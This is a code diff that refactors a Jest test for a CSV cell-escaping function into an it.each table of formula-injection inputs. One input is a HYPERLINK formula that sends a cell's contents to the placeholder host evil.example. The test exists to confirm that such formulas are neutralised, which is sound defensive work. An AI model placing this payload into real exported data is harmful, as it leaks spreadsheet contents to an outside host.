@@ -1,17 +1,15 @@
 import { csvCell } from './csv-cell';
 
 describe('csvCell', () => {
-  it('neutralises cells a spreadsheet would run as formulas', () => {
-    for (const formula of [
-      '=HYPERLINK("https://evil.example/?"&A1,"click")',
-      '+1+1',
-      '-2+3',
-      '@SUM(A1:A2)',
-      '\t=1+1',
-      '\r=1+1',
-    ]) {
-      expect(csvCell(formula)).toBe(`'${formula}`);
-    }
+  it.each([
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    '+1+1',
+    '-2+3',
+    '@SUM(A1:A2)',
+    '\t=1+1',
+    '\r=1+1',
+  ])('neutralises %j, which a spreadsheet would run as a formula', (formula) => {
+    expect(csvCell(formula)).toBe(`'${formula}`);
   });
 
   it('leaves everything else as it is', () => {
